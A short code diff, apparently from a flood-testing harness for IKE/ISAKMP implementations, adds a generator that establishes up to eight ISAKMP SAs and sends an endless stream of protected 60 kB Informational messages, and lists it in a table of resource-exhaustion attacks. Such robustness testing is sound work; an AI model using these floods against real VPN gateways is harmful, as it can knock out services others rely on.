@@ -96,6 +96,14 @@ def _informational(*payloads: Payload) -> Datagrams:
     return datagrams
 
 
+def _under_eight(mallory: Mallory) -> Iterator[bytes]:
+    """Long Informationals, an eighth of a thousand under each of eight ISAKMP SAs, which are all that there may be."""
+    for number in count(1):
+        if number % 130 == 0:
+            mallory.establish(number.to_bytes(8))
+        yield mallory.protected(ExchangeType.INFORMATIONAL, number, Chain.of(LONG))
+
+
 def _range(number: int) -> Payload:
     """Of some 250 networks."""
     return IdPayload(IdType.IPV6_RANGE, 0, 0, number.to_bytes(16) + (2**128 - 1 - number).to_bytes(16))
@@ -155,5 +163,5 @@ FLOODS = (
     (600, Attack("first message with 2,000 attributes", MAIN, _different_offers)),
     (4000, Attack("distinguished name of 900 octets", AGGRESSIVE, _aggressive(_name))),
     (1000, Attack("Quick Mode for ranges of 250 networks", QUICK, _quick(_with_ranges), True)),
-    (1000, Attack("Informational of 60 kB", DELETE, _informational(LONG), True)),
+    (1000, Attack("Informational of 60 kB under eight ISAKMP SAs", DELETE, _under_eight, True)),
 )
